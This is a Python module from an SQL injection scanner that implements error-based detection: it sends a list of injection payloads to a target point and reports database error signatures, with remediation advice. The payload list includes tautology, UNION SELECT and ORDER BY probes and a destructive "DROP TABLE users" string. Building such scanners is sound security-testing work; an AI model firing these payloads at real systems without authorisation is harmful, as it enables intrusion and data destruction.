from typing import List

from sqlscanner.checkers.base import BaseTechnique
from sqlscanner.core.client import TransportError
from sqlscanner.core.comparator import clip, detect_db_fingerprint, sql_error_match
from sqlscanner.core.context import PointState, ScanContext
from sqlscanner.core.models import Technique

DEFAULT_ERROR_PAYLOADS = [
    "'",
    '"',
    "\\",
    "')",
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1 --",
    "'; DROP TABLE users; --",
    "' UNION SELECT null--",
    "1' AND 1=1--",
    "1' AND 1=2--",
    "' UNION SELECT 1--",
    "' UNION SELECT 1,2--",
    "' ORDER BY 1--",
    "' ORDER BY 2--",
]


class ErrorBased(BaseTechnique):
    """
    Breaks the query syntax and looks for a database error in the response.

    Points whose baseline page already carries an SQL error signature are
    never reported: the error is not caused by the payload, and matching it
    would flag every payload on that point as a false positive.
    """

    name = "Error-based SQLi"
    technique = Technique.ERROR
    remediation = (
        "Use parameterized queries or prepared statements for every value that reaches SQL.",
        "Return a generic error page; never render database driver messages to clients.",
        "Run the application with a least-privilege database account.",
    )

    def default_payloads(self) -> List[str]:
        return list(DEFAULT_ERROR_PAYLOADS)

    async def run(self, ctx: ScanContext, state: PointState) -> bool:
        # an error already on the baseline page is not caused by our payload
        baseline_error = bool(sql_error_match(state.baseline_text))

        for payload in self.payloads:
            res = await ctx.probe.send(state.point, payload)
            if isinstance(res, TransportError):
                ctx.record(self.inconclusive(state, payload, res))
                await ctx.pause()
                continue

            match = sql_error_match(res.text)
            if match and not baseline_error:
                fingerprint = detect_db_fingerprint(res.text)
                state.fingerprint = fingerprint
                ctx.record(self.finding(
                    state, payload, res.meta(), True,
                    f"SQL error signature: {clip(match)}",
                    confirmations=("error_signature", fingerprint),
                    replay=(res,),
                ))
                return True

            ctx.record(self.finding(state, payload, res.meta(), False,
                                    "no SQL error signature"))
            await ctx.pause()
        return False
